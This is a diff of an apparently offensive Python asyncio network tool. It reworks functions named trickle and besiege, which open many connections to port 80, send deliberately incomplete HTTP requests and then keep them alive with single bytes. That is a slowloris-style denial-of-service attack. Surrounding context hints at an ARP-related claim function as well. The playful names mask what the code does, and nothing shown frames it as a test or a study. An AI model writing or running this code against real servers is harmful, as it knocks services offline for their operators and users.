@@ -39,6 +39,8 @@ _ENDS = (
 
 
 _PATIENCE_S = 1.5
+
+Line = tuple[asyncio.StreamReader, asyncio.StreamWriter]
 _ARP = 0x0806
 
 
@@ -76,11 +78,7 @@ async def shout(phone: Phone, address: str, seed: int, count: int) -> None:
 
 async def trickle(phone: Phone, address: str, count: int, done: asyncio.Event) -> None:
     """So many connections that say a byte now and then, until it is `done`."""
-    tried = (phone.connect(address, 80) for _ in range(count))
-    told = await asyncio.gather(*tried, return_exceptions=True)
-    lines = [one for one in told if not isinstance(one, BaseException)]
-    for _, writer in lines:
-        writer.write(b"GET / HTTP/1.1\r\nHost: a")
+    lines = await besiege(phone, address, count)
     while not done.is_set():
         for _, writer in lines:
             writer.write(b"a")
@@ -91,25 +89,14 @@ async def trickle(phone: Phone, address: str, count: int, done: asyncio.Event) -
         writer.close()
 
 
-async def besiege(phone: Phone, address: str, count: int, done: asyncio.Event) -> None:
-    """So many connections that say half a word; each that ends is made anew, until it is `done`."""
-
-    async def one() -> None:
-        with suppress(OSError, TimeoutError):
-            async with asyncio.timeout(_PATIENCE_S):
-                reader, writer = await phone.connect(address, 80)
-                try:
-                    writer.write(b"GET / HT")
-                    await reader.read(-1)
-                finally:
-                    writer.close()
-
-    trying: set[asyncio.Task[None]] = set()
-    while not done.is_set():
-        while len(trying) < count:
-            trying.add(asyncio.create_task(one()))
-        _, trying = await asyncio.wait(trying, timeout=0.05, return_when=asyncio.FIRST_COMPLETED)
-    await asyncio.gather(*trying)
+async def besiege(phone: Phone, address: str, count: int) -> list[Line]:
+    """Opens so many connections, which say half a word; those that it got."""
+    tried = (phone.connect(address, 80) for _ in range(count))
+    told = await asyncio.gather(*tried, return_exceptions=True)
+    lines = [one for one in told if not isinstance(one, BaseException)]
+    for _, writer in lines:
+        writer.write(b"GET / HTTP/1.1\r\nHost: a")
+    return lines
 
 
 def claim(phone: Phone, address: str, of: str) -> None:
